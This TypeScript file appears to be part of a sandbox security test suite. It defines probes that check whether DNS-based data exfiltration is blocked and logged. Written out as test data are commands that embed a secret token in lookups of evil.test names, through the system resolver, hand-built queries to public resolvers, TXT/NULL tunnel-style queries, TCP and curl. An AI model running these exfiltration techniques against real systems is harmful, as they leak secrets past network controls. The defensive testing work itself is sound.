// Techniques 44 and 45, 66: what a question for a name can carry out. A server for names stands outside, at every address;
// a question that reaches it has left.

import type { Logged } from "../../../journeys/stage.ts";
import { asked } from "../../oracles.ts";
import type { Probe } from "../../probe.ts";
import type { Rig } from "../../rig/rig.ts";

interface Asking {
  readonly id: string;
  readonly title: string;
  readonly line: (rig: Rig) => string;
  readonly decisive?: true;
  /** The record names it otherwise than by its token: cut, or unreadable. */
  readonly unnamed?: true;
}

const lookup = (name: string): string => `timeout 4 getent ahosts ${name}`;

/** A question by hand to a resolver of one's own choosing. */
const query = (server: string, name: string, type: number, kind = "DGRAM"): string => `timeout 4 python3 -c '
import socket as k, struct
q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in "${name}".split(".")) + b"\\0" + struct.pack(">HH", ${type}, 1)
s = k.socket(k.AF_INET${server.includes(":") ? "6" : ""}, k.SOCK_${kind}); s.settimeout(1); s.connect(("${server}", 53))
s.send(${kind === "STREAM" ? 'struct.pack(">H", len(q)) + q' : "q"})
try: s.recv(600)
except OSError: pass'`;

const askings: readonly Asking[] = [
  {
    id: "name-lookup",
    title: "a secret as a label, by the system's resolver",
    line: ({ token }) => lookup(`${token}.evil.test`),
    decisive: true,
  },
  {
    id: "name-below-allowed",
    title: "a label below the name that is allowed",
    line: ({ token }) => lookup(`${token}.api.allowed.test`),
    decisive: true,
  },
  {
    id: "name-beside-allowed",
    title: "a name whose end looks allowed",
    line: ({ token }) => lookup(`${token}api.allowed.test`),
  },
  {
    id: "name-upper-case",
    title: "a name in mixed case",
    line: ({ token }) => lookup(`${token.toUpperCase()}.EvIl.TeSt`),
  },
  {
    id: "name-trailing-dot",
    title: "a name with a dot at its end",
    line: ({ token }) => lookup(`${token}.evil.test.`),
  },
  {
    id: "name-long-label",
    title: "a label of 63 characters",
    line: ({ token }) => lookup(`${token.padEnd(63, "a")}.evil.test`),
  },
  {
    id: "name-hard-coded-8888",
    title: "a resolver of one's own choosing",
    line: ({ token }) => query("8.8.8.8", `${token}.evil.test`, 1),
    decisive: true,
  },
  {
    id: "name-hard-coded-ipv6",
    title: "a resolver of one's own choosing, by IPv6",
    line: ({ token }) => query("2001:4860:4860::8888", `${token}.evil.test`, 1),
  },
  { id: "name-txt", title: "a question for text", line: ({ token }) => query("9.9.9.9", `${token}.evil.test`, 16) },
  {
    id: "name-null",
    title: "a question of a type tunnels use",
    line: ({ token }) => query("9.9.9.9", `${token}.evil.test`, 10),
  },
  {
    id: "name-tcp",
    title: "a question over TCP",
    line: ({ token }) => query("8.8.8.8", `${token}.evil.test`, 1, "STREAM"),
    unnamed: true,
  },
  {
    id: "name-curl",
    title: "a request whose name is the secret",
    line: ({ token }) => `curl -s -m 4 --noproxy '*' http://${token}.evil.test/`,
  },
  {
    id: "name-reverse",
    title: "an address asked for backwards",
    line: ({ token }) => query("8.8.8.8", `${token}.in-addr.arpa`, 12),
  },
];

const names = (entry: Logged, token: string): boolean => JSON.stringify(entry.sealed).toLowerCase().includes(token);

function ask({ id, title, line, decisive, unnamed }: Asking): Probe {
  return {
    id,
    technique: 44,
    title,
    source: "OpenShell #1169, microsandbox #675, srt #88",
    record: "must",
    ...(decisive === undefined ? {} : { decisive }),
    inside: (rig) => `${line(rig)} > loot 2>&1`,
    landed: (after) => asked(after.rig.token)(after),
    entry: (entry, { token }) =>
      (entry.kind === "name" || entry.kind === "connection") &&
      (unnamed === true
        ? entry.sealed["port"] === 53 || JSON.stringify(entry.sealed).includes(":53")
        : names(entry, token)),
    named: ({ token }) => token,
  };
}

export const dns: readonly Probe[] = askings.map(ask);
